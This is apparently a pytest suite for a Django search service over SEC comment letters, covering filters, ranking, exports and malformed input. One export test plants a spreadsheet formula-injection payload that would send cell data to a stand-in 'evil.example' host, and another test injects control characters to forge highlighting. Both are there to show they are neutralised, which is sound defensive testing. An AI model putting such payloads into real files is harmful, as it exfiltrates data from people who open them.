"""Search: matches, highlights, filters, order, exports, and no 500 for any text."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.test import Client

from commentletters.archive import models

pytestmark = pytest.mark.django_db


def test_finds_comments_and_answers_with_highlights(client: Client, archive) -> None:
    html = client.get("/search/", {"q": "effective tax rate"}).content.decode()
    assert "4 results" in html  # both first-round comments and both answers; the follow-up says "tax rates"
    assert "<mark>effective</mark>" in html and "Company answer 1" in html and "Staff comment 2" in html


@pytest.mark.parametrize("q", ['non-GAAP "', "AND OR (", '"', "NEAR(", "*", "-", "'", "col:x", "\\", "a" * 500])
def test_hostile_text_never_breaks_the_page(client: Client, archive, q: str) -> None:
    assert client.get("/search/", {"q": q}).status_code == 200
    assert client.get("/api/search", {"q": q}).status_code == 200


def test_phrase_and_exclusion(client: Client, archive) -> None:
    assert json.loads(client.get("/api/search", {"q": '"known trend"'}).content)["total"] == 1
    assert json.loads(client.get("/api/search", {"q": "tax -earnings"}).content)["total"] == 3


@pytest.mark.parametrize(
    ("params", "total"),
    [
        ({"type": "answer"}, 2),
        ({"type": "comment"}, 3),
        ({"authority": "Item 303(a)(3) of Regulation S-K"}, 1),
        ({"year": "2015"}, 0),
        ({"status": "open"}, 1),
        ({"form": "10-k"}, 5),
        ({"office": "technologies"}, 5),
        ({"office": "life sciences"}, 0),
        ({"office": "information_technologies"}, 0),  # typed text, not a LIKE pattern ("_" any letter)
        ({"office": "%"}, 0),
    ],
)
def test_filters(client: Client, archive, params: dict[str, str], total: int) -> None:
    body = json.loads(client.get("/api/search", {"q": "tax", **params}).content)
    assert body["total"] == total


def test_filters_alone_browse_newest_first(client: Client, archive) -> None:
    body = json.loads(client.get("/api/search", {"type": "comment"}).content)
    assert [r["date"] for r in body["results"]] == ["2016-06-30", "2016-04-25", "2016-04-25"]


def test_date_order_and_pagination(client: Client, archive) -> None:
    first = json.loads(client.get("/api/search", {"q": "tax", "order": "date", "per_page": 2}).content)
    second = json.loads(client.get("/api/search", {"q": "tax", "order": "date", "per_page": 2, "page": 2}).content)
    dates = [r["date"] for r in first["results"] + second["results"]]
    assert first["total"] == 5 and dates == sorted(dates, reverse=True) and len(dates) == 4


def test_api_result_shape(client: Client, archive) -> None:
    body = json.loads(client.get("/api/search", {"q": "known trend"}).content)
    assert body["total"] == 1
    hit = body["results"][0]
    assert {k: hit[k] for k in ("accession", "number", "type", "company", "date")} == {
        "accession": "0000000000-16-082817",
        "number": 1,
        "type": "comment",
        "company": "Facebook, Inc.",
        "date": "2016-06-30",
    }
    assert "known trend" in hit["snippet"] and "<mark>" not in hit["snippet"]


def test_csv_and_json_exports(client: Client, archive) -> None:
    response = client.get("/search/", {"q": "tax", "type": "answer", "format": "csv"})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert sorted((r["type"], r["number"]) for r in rows) == [("answer", "1"), ("answer", "2")]
    assert rows[0]["url"].startswith("http://testserver/letters/0001193125-16-582198/#answer-")
    body = json.loads(client.get("/search/", {"q": "tax", "format": "json"}).content)
    assert body["total"] == 5 and len(body["results"]) == 5


def test_csv_export_cells_do_not_open_as_formulas(client: Client, archive) -> None:
    """Names and texts come from letters (untrusted); a spreadsheet must show them, not run them."""
    archive.company.name = '=HYPERLINK("http://evil.example/?"&A1,"Facebook")'
    archive.company.save()
    response = client.get("/search/", {"q": "tax", "type": "answer", "format": "csv"})
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert {r["company"] for r in rows} == {"'" + archive.company.name}
    assert rows[0]["snippet"][0].isalpha()  # ordinary text is left as it is


def test_bad_filter_value_is_a_400_page_not_a_500(client: Client, archive) -> None:
    response = client.get("/search/", {"q": "tax", "year": "last year"})
    assert response.status_code == 400 and b"could not be read" in response.content


def test_similar_comments_find_the_follow_up(client: Client, archive) -> None:
    comment = archive.letters.get(key="0000000000-16-073605").comments.get(number=2)
    body = json.loads(client.get(f"/comments/{comment.id}/similar/", {"format": "json"}).content)
    assert body["results"][0]["accession"] == "0000000000-16-082817"
    assert client.get(f"/comments/{comment.id}/similar/").status_code == 200


def test_broad_search_ranks_within_a_window_but_counts_everything(client: Client, archive, monkeypatch) -> None:
    """With more matches than the relevance window, the total stays exact and the page says so."""
    from commentletters.web import search_sqlite

    monkeypatch.setattr(search_sqlite, "RELEVANCE_WINDOW", 1)
    html = client.get("/search/", {"q": "tax"}).content.decode()
    body = json.loads(client.get("/api/search", {"q": "tax", "type": "comment"}).content)
    assert "5 results" in html and body["total"] == 3
    if search_sqlite.connection.vendor == "sqlite":
        assert "ranked among the newest" in html
        assert len(body["results"]) == 1  # only the newest match is ranked
    else:  # PostgreSQL's GIN index ranks every match
        assert "ranked among" not in html and len(body["results"]) == 3


def test_within_one_company(client: Client, archive) -> None:
    company = archive.company_id
    body = json.loads(client.get("/api/search", {"q": "effective tax rate", "company": company}).content)
    assert body["total"] == 4 and {(r["type"], r["number"]) for r in body["results"]} == {
        ("comment", 1),
        ("comment", 2),
        ("answer", 1),
        ("answer", 2),
    }
    newest = json.loads(client.get("/api/search", {"q": "tax", "company": company, "order": "date"}).content)
    assert newest["results"][0]["accession"] == "0000000000-16-082817"
    assert json.loads(client.get("/api/search", {"q": "tax", "company": company + 1}).content)["total"] == 0


def test_common_words_alone_find_nothing_and_say_so(client: Client, archive) -> None:
    html = client.get("/search/", {"q": "AND OR ("}).content.decode()
    assert "0 results" in html and "common words left out: AND, OR" in html
    assert json.loads(client.get("/api/search", {"q": "the tax"}).content)["total"] == 5


@pytest.mark.parametrize(
    ("q", "said"),
    [
        ("-earnings", "nothing to search for: -word leaves out what has the word"),
        ("-earnings -rate", "nothing to search for: -word leaves out what has the word"),
        ("\U0001f4b0", "no words to search for"),
        ("*", "no words to search for"),
        ('"', "no words to search for"),
    ],
)
def test_text_with_no_word_to_look_for_finds_nothing_and_says_so(client: Client, archive, q: str, said: str) -> None:
    """Not every comment and answer "for “-earnings”" (those with the word included): nothing, and why."""
    html = client.get("/search/", {"q": q}).content.decode()
    assert "0 results" in html and said in html
    assert json.loads(client.get("/api/search", {"q": q}).content)["total"] == 0
    assert json.loads(client.get("/api/search", {"q": "  "}).content)["total"] == 5  # nothing typed: browse all


def test_curly_quotes_mark_a_phrase(client: Client, archive) -> None:
    """A phrase pasted with typographic quotes is a phrase: the words in that order, not each anywhere."""
    assert json.loads(client.get("/api/search", {"q": "rate effective"}).content)["total"] == 4
    assert json.loads(client.get("/api/search", {"q": "“rate effective”"}).content)["total"] == 0
    assert json.loads(client.get("/api/search", {"q": "“effective tax rate”"}).content)["total"] == 4


def test_both_plans_of_a_filtered_ranking_agree(client: Client, archive, monkeypatch) -> None:
    """Filtered "most relevant": ranking the words' matches then filtering, or ranking the filtered
    matches directly (search_sqlite.Plan.best picks by a bounded count) gives the same page."""
    from commentletters.web import search_sqlite

    params = {"q": "effective tax rate", "status": "answered"}
    first = json.loads(client.get("/api/search", params).content)
    monkeypatch.setattr(search_sqlite, "WORDS_ONLY_SCAN", 0)
    assert json.loads(client.get("/api/search", params).content) == first and first["total"] == 2


def test_a_text_cannot_highlight_words_of_its_own_choosing(client: Client, archive) -> None:
    """The database's match markers were the control characters 2 and 3, which a letter's text may hold:
    a hostile text then showed highlighting the search never made (found by the security review)."""
    from commentletters.archive.models import Comment

    comment = Comment.objects.filter(letter__key="0000000000-16-073605", number=2).get()
    comment.text = comment.text + " Zanzibar \x02notice me\x03 and \x03 stray \x02."
    comment.save()
    html = client.get("/search/", {"q": "Zanzibar"}).content.decode()
    assert "<mark>Zanzibar</mark>" in html
    assert "<mark>notice" not in html and html.count("<mark>") == html.count("</mark>") == 1
    body = json.loads(client.get("/api/search", {"q": "Zanzibar"}).content)
    assert "\x02notice me\x03" in body["results"][0]["snippet"]  # the text's own characters, as text


def test_each_hit_says_the_forms_its_letter_reviews(client: Client, archive) -> None:
    """As `commentletters search` prints them: a precedent on a 10-K reads differently from one on an S-1."""
    staff = models.Letter.objects.get(key="0000000000-16-073605")
    staff.data["filings_reviewed"] = [{"form": "10-K", "period": "2015-12-31"}, {"form": "8-K", "filed": "2016-01-27"}]
    staff.save()
    html = client.get("/search/?q=domestic+federal+effective").content.decode()
    assert '· <span title="the filings the letter reviews">10-K, 8-K</span></div>' in html
